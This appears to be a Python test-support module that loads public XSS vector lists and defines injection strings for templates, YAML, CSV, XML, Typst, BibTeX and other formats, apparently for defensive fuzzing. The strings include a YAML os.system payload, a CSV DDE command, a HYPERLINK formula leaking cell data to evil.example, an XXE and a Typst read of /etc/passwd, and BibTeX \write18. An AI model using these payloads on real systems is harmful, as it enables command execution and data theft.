"""What strangers could send: public lists of strings that become script elsewhere, and our own for other syntaxes."""

import re
from functools import cache
from pathlib import Path

FOLDER = Path(__file__).parent / "vectors"
BY_LINE = ("RSNAKE_XSS.txt", "IntrudersXSS.txt", "XSS_Polyglots.txt")
NUMBERED = "MarioXSSVectors.txt"
ELEMENT = re.compile(r'<div id="\d+">(.*?)(?=<div id="\d+">|\Z)', re.DOTALL)
# By what the text should not become.
SYNTAXES = {
    "template": (
        "{{ 7*7 }}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
        "{# x #}",
        "{{ config.items() }}",
        "⟦inside⟧ ⟦title⟧ ⟦linked-data⟧",
        "${7*7} #{7*7} <%= 7*7 %>",
    ),
    "front matter": ("---\ntitle: autre\n---\n", "---", "...\n---\n", "+++\ntitle = 1\n+++"),
    "YAML": (
        "a: b\nstatus: adopted",
        "- &a [*a]",
        "!!python/object/apply:os.system ['id']",
        "? x\n: y",
        "'\"\\",
        "#a\n b: |",
    ),
    "CSV formula": (
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example?x="&A1,"x")',
        '",=1+1,"',
        " =1+1",
        "＝1+1",
    ),
    "Turtle": (
        '""" . <urn:a> <urn:b> <urn:c> . """',
        '" . <urn:a> <urn:b> "c',
        '\\" ; a <urn:x> .',
        "> . <urn:a> <urn:b> <urn:c>",
        '\\u0022 . \n "@fr .',
    ),
    "XML": (
        "]]><x>",
        "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
        "</text></body></tbx><x/>",
        "<?xml-stylesheet href='javascript:1'?>",
        "&lt;x&gt; &amp; &#60;x&#62; &b;",
        "-->",
    ),
    "Typst": (
        '#read("/etc/passwd")',
        '#eval("1+1")',
        "#{ while true {} }",
        "$ sum_1^2 $ _a_ *b* `c` <label> @label",
        "] #panic() [",
        "// x /* y */ \\ ~ --- ",
    ),
    "JSON in a page": ("</script><script>window.owned=1</script>", "<!--<script>", "\\u003c/script\\u003e", "\u00a0\\"),
    "calendar": ("x\r\nBEGIN:VEVENT\r\nSUMMARY:y", "a;b:c,d\\n\nATTENDEE:x", "END:VCALENDAR"),
    "feed": ("]]></title><link href='http://evil.example'/>", "<content type='html'>&lt;script&gt;</content>"),
    "RIS": ("x\nER  - \n\nTY  - BOOK\nTI  - y", "ER  - "),
    "BibTeX": (
        "}\n@article{x, title={y}}",
        "{\\input{/etc/passwd}}",
        "\\write18{id}",
        '", author = "x',
        "100 % $x$ #1 & ~ ^ _",
    ),
}


@cache
def xss() -> tuple[str, ...]:
    """The strings of the public lists, each once, in order."""
    lines = [line for name in BY_LINE for line in (FOLDER / name).read_text(encoding="utf-8").split("\n")]
    numbered = ELEMENT.findall((FOLDER / NUMBERED).read_text(encoding="utf-8"))
    return tuple(dict.fromkeys(one.strip() for one in [*lines, *numbered] if one.strip()))


@cache
def syntaxes() -> tuple[str, ...]:
    """Our own strings, for what is not HTML."""
    return tuple(text for texts in SYNTAXES.values() for text in texts)
